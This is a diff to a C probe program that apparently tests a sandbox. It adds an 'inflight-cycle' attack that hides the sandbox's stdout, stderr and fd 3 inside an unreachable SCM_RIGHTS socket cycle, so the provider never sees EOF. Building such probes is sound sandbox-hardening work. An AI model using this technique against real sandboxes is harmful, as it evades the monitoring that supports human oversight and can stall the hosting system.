@@ -393,6 +393,39 @@ static int rt_sched(void) {
     return errno_report("rt-sched", rc);
 }
 
+
+static int send_fd(int via, int fd) {
+    char byte = 0;
+    struct iovec iov = {.iov_base = &byte, .iov_len = 1};
+    char cbuf[CMSG_SPACE(sizeof fd)];
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
+    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+    c->cmsg_level = SOL_SOCKET;
+    c->cmsg_type = SCM_RIGHTS;
+    c->cmsg_len = CMSG_LEN(sizeof fd);
+    memcpy(CMSG_DATA(c), &fd, sizeof fd);
+    return sendmsg(via, &msg, 0);
+}
+
+/*
+ * Hides the sandbox's stdout/stderr pipe and fd 3 in an unreachable
+ * in-flight SCM_RIGHTS cycle (a socket queued in its own receive queue,
+ * carrying them), then exits: only the kernel's unix garbage collector
+ * can close them, and until it does the provider never sees EOF.
+ */
+static int inflight_cycle(void) {
+    int sv[2];
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) return errno_report("inflight-cycle", -1);
+    int rc = send_fd(sv[0], 1) | send_fd(sv[0], 2) | send_fd(sv[0], 3) | send_fd(sv[0], sv[1]) | send_fd(sv[1], sv[0]);
+    report("inflight-cycle", 0, rc < 0 ? strerror(errno) : "hidden");
+    close(sv[0]);
+    close(sv[1]);
+    close(3);
+    close(2);
+    close(1);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) return 2;
     const char *cmd = argv[1];
@@ -419,6 +452,7 @@ int main(int argc, char **argv) {
     if (!strcmp(cmd, "watch-host") && argc == 4) return watch_host(argv[2], atoi(argv[3]));
     if (!strcmp(cmd, "unmapped-memory") && argc == 5) return unmapped_memory(argv[2], atoi(argv[3]), atoi(argv[4]));
     if (!strcmp(cmd, "rt-sched")) return rt_sched();
+    if (!strcmp(cmd, "inflight-cycle")) return inflight_cycle();
     fprintf(stderr, "unknown attack %s\n", cmd);
     return 2;
 }
